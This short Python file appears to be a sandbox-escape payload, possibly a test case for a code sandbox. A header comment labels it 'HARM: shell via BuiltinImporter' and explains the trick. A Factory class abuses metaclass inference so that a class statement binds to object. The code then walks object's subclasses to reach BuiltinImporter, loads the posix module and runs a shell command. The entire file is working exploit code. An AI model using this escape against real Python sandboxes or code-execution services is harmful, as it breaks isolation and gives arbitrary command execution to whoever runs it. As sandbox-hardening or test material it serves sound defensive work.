# HARM: shell via BuiltinImporter | TRICK: base is an instance of a file class (metaclass inferred as type(base)); its __new__ returns object so `class Base(tok)` binds Base=object
class Factory:
    def __new__(c, name=None, bases=None, ns=None):
        if ns is None:
            return super().__new__(c)
        return object
tok = Factory()
class Base(tok): pass
for k in Base.__subclasses__():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
